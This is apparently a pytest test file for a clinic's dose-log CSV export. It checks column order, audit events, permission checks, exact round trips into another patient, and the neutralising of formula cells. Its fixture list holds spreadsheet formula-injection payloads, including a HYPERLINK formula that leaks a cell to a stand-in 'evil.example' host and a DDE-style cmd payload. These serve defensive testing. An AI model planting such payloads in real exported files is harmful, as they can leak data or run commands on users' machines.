"""Dose-log CSV export: canonical columns in order, a round trip through the importer into
another patient that is exact field by field, and formula-injection neutralising."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import select

from kapnotes import csv_import, dose_csv, doses
from kapnotes.config import get_settings
from kapnotes.db import session_scope
from kapnotes.doses import CSV_COLUMNS, DoseInput
from kapnotes.errors import PermissionDenied
from kapnotes.models import AuditEvent, DoseEntry
from tests.unit.pdf_data import build_world

RISKY_NOTES = ('=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', "+1+1", "-2+3+cmd|' /C calc'!A0",
               "@SUM(A1:A9)", "- felt dizzy, then fine", "'=already quoted once")


def export(engine, actor, pid, **kw) -> tuple[str, bytes]:
    with session_scope(engine) as s:
        return dose_csv.dose_log_csv(s, actor, pid, **kw)


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def live_doses(engine, pid) -> list[DoseEntry]:
    with session_scope(engine) as s:
        return list(s.exec(select(DoseEntry).where(DoseEntry.patient_id == pid, DoseEntry.voided_at.is_(None))
                           .order_by(DoseEntry.taken_at, DoseEntry.id)).all())


def import_into(engine, actor, pid, data: bytes, parse) -> None:
    parsed = parse(data, get_settings().tz)
    assert parsed.errors == []
    with session_scope(engine) as s:
        result = csv_import.import_doses(s, actor, pid, parsed, "roundtrip.csv")
    assert result.duplicates == 0 and result.invalid == 0


def assert_same_doses(engine, a, b) -> None:
    left, right = live_doses(engine, a), live_doses(engine, b)
    assert len(left) == len(right) > 0
    for x, y in zip(left, right, strict=True):
        for c in CSV_COLUMNS:
            assert getattr(x, c) == getattr(y, c), (c, getattr(x, c), getattr(y, c))


def add_notes(engine, actor, pid, notes) -> None:
    base = datetime.now(UTC) - timedelta(hours=len(notes) + 1)
    with session_scope(engine) as s:
        for i, note in enumerate(notes):
            doses.add_dose(s, actor, pid, DoseInput(taken_at=base + timedelta(hours=i, seconds=7), dose_mg=137.5,
                                                    formulation="troche", administration="swallow",
                                                    context="home_with_sitter", notes=note))


def test_columns_and_values(engine, clinic):
    world = build_world(engine, clinic, days=30)
    name, data = export(engine, clinic.tina, clinic.a1)
    assert name == "doses-A-001.csv"
    rows = rows_of(data)
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) - 1 == len(live_doses(engine, clinic.a1))  # the voided entry is left out
    assert b"VOIDED-ENTRY" not in data
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["taken_at"].endswith(("-04:00", "-05:00"))  # the clinic's offset, explicit
    assert first["dose_mg"] == "150" and first["vomited"] == "false" and first["bp_systolic_pre"] == "124"
    with session_scope(engine) as s:
        [ev] = s.exec(select(AuditEvent).where(AuditEvent.action == "export.dose_csv")).all()
    assert ev.actor_id == clinic.tina.id and ev.detail == f"rows={len(rows) - 1}"
    assert world.patient_id == clinic.a1


def test_round_trip_into_another_patient_through_the_existing_importer(engine, clinic):
    build_world(engine, clinic, days=40, hostile=True)  # no home dose at the in-session dose's minute
    add_notes(engine, clinic.tina, clinic.a1, ["Line one\nline two, with \"quotes\"; and; semicolons", "NA", "0.5"])
    _, data = export(engine, clinic.tina, clinic.a1)
    import_into(engine, clinic.tina, clinic.a2, data, csv_import.read_csv)
    assert_same_doses(engine, clinic.a1, clinic.a2)
    # and exporting the copy gives the same file, byte for byte
    _, again = export(engine, clinic.tina, clinic.a2)
    assert again == data


def test_formula_cells_are_neutralised(engine, clinic):
    add_notes(engine, clinic.tina, clinic.a1, RISKY_NOTES)
    _, data = export(engine, clinic.tina, clinic.a1)
    rows = rows_of(data)
    notes = [r[CSV_COLUMNS.index("notes")] for r in rows[1:]]
    assert notes == ["'" + n for n in RISKY_NOTES]
    assert not any(cell[:1] in "=+-@\t\r" for r in rows[1:] for cell in r if cell)
    assert b'\n=HYPERLINK' not in data and b',=HYPERLINK' not in data and b'"=HYPERLINK' not in data


def test_numbers_are_never_prefixed():
    tz = get_settings().tz
    row = {c: None for c in CSV_COLUMNS} | {"taken_at": datetime(2026, 3, 1, 12, tzinfo=UTC), "dose_mg": -5.0,
                                           "heart_rate": -1, "formulation": "odt", "notes": "-5"}
    [header, line] = rows_of(rows_to := dose_csv.rows_to_csv([row], tz).encode())
    cells = dict(zip(header, line, strict=True))
    assert cells["dose_mg"] == "-5" and cells["heart_rate"] == "-1"  # a number is not a formula
    assert cells["notes"] == "'-5"  # text is
    assert rows_to.startswith(b"taken_at,")


def test_neutralised_notes_round_trip_exactly_with_restore(engine, clinic):
    add_notes(engine, clinic.tina, clinic.a1, RISKY_NOTES)
    _, data = export(engine, clinic.tina, clinic.a1)
    import_into(engine, clinic.tina, clinic.a2, data, dose_csv.read_dose_csv)
    assert_same_doses(engine, clinic.a1, clinic.a2)
    assert [d.notes for d in live_doses(engine, clinic.a2)] == list(RISKY_NOTES)


def test_the_importer_itself_restores_neutralised_cells(engine, clinic):
    add_notes(engine, clinic.tina, clinic.a1, RISKY_NOTES)
    _, data = export(engine, clinic.tina, clinic.a1)
    import_into(engine, clinic.tina, clinic.a2, data, csv_import.read_csv)
    assert [d.notes for d in live_doses(engine, clinic.a2)] == list(RISKY_NOTES)


@given(st.text(max_size=30))
def test_restore_inverts_neutralise(text):
    out = dose_csv.neutralise_cell(text)
    assert dose_csv.restore_cell(out) == text
    assert out[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_access_is_checked(engine, clinic):
    with pytest.raises(PermissionDenied):
        export(engine, clinic.theo, clinic.a1)
    with pytest.raises(PermissionDenied):
        export(engine, None, clinic.a1)
    with session_scope(engine) as s:
        assert s.exec(select(AuditEvent).where(AuditEvent.action == "export.dose_csv")).all() == []
